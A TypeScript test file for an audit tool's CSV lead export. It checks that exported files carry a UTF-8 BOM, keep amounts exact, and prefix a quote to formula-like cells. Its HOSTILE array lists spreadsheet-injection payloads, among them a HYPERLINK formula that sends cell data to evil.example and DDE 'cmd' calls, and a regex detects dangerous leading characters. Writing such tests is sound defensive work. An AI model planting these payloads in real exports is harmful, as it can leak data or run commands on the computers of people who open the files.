// Lead files: UTF-8 with BOM, exact amounts, and no cell a spreadsheet would run as a formula,
// whatever the ledger's village, summary or counterparty says.
import { readFileSync } from 'node:fs';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Lead } from '../../shared/contract';
import { LEAD_COLUMNS, leadsToCsv } from '../../shared/leads/csv';
import { ledgerCsv, openTempService, payment } from '../helpers';

const DANGEROUS = /^[=+\-@\t\r]/;
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+2', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+2', '\r=1+3'];

function parse(text: string): string[][] {
  return Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { skipEmptyLines: true }).data;
}

describe('leadsToCsv', () => {
  const lead = (over: Partial<Lead>): Lead => ({
    number: '石板冲乡-001', township: '石板冲乡', village: '赵湾村', rule: 'unreceipted', problem: '白条入账', amountFen: 123456, amount: '1234.56',
    vouchers: ['记-1'], dates: ['2018-03-05'], sources: [{ file: 'a.csv', sha256: 'x', line: 2 }], findingIds: ['f1'], summary: '摘要', ...over,
  });

  it.each(HOSTILE)('neutralises %j in every text column', (v) => {
    const text = leadsToCsv([lead({ township: v, village: v, problem: v, summary: v, vouchers: [v], number: v })]);
    const [header, row] = parse(text);
    expect(header).toEqual([...LEAD_COLUMNS]);
    for (const cell of row ?? []) expect(cell, JSON.stringify(cell)).not.toMatch(DANGEROUS);
    // The value is kept, behind a leading quote, not dropped.
    expect(row?.[2]).toBe(`'${v}`);
  });

  it('starts with a UTF-8 BOM, decodes as strict UTF-8, and keeps amounts exact', () => {
    const text = leadsToCsv([lead({ amountFen: 4_620_000, amount: '46200.00' }), lead({ number: '石板冲乡-002', amountFen: 1, amount: '0.01' })]);
    const bytes = Buffer.from(text, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(bytes)).toBe(text);
    const rows = parse(text);
    expect(rows.slice(1).map((r) => r[4])).toEqual(['46200.00', '0.01']);
  });
});

describe('lead files from a hostile ledger', () => {
  it('exports one file per township, with BOM, and no dangerous cell anywhere', async () => {
    const { service, dir } = await openTempService();
    const lines = HOSTILE.flatMap((v, i) => payment({
      date: '2018-03-05', voucher: `记-${i + 1}`, summary: v, name: '管理费用', amount: `${i + 1},234.56`, att: 0, counterparty: v, village: v,
    }));
    // (the ledger's cells are trimmed, so the tab and CR variants arrive as =1+2 and =1+3)
    lines.push(...payment({ date: '2018-03-06', voucher: '记-99', summary: '宴请', name: '管理费用-招待费', amount: '99.99', township: '=cmd()', village: '@村' }));
    writeFileSync(join(dir, 'hostile.csv'), ledgerCsv(lines));
    const r = await service.importFile({ path: join(dir, 'hostile.csv'), kind: 'ledger' });
    expect(r.status).toBe('imported');
    await service.runRules();
    const out = await service.exportLeads({ dir: join(dir, 'leads') });
    expect(out.files.map((f) => f.township).sort()).toEqual(['=cmd()', '石板冲乡']);
    const amounts: string[] = [];
    for (const f of out.files) {
      const bytes = readFileSync(f.path);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const rows = parse(new TextDecoder('utf-8', { fatal: true }).decode(bytes));
      expect(rows[0]).toEqual([...LEAD_COLUMNS]);
      for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(DANGEROUS);
      amounts.push(...rows.slice(1).map((r) => r[4] ?? ''));
    }
    expect(amounts.sort()).toEqual(['1234.56', '2234.56', '3234.56', '4234.56', '5234.56', '6234.56', '99.99'].sort());
    await service.closeWorkspace();
  });
});
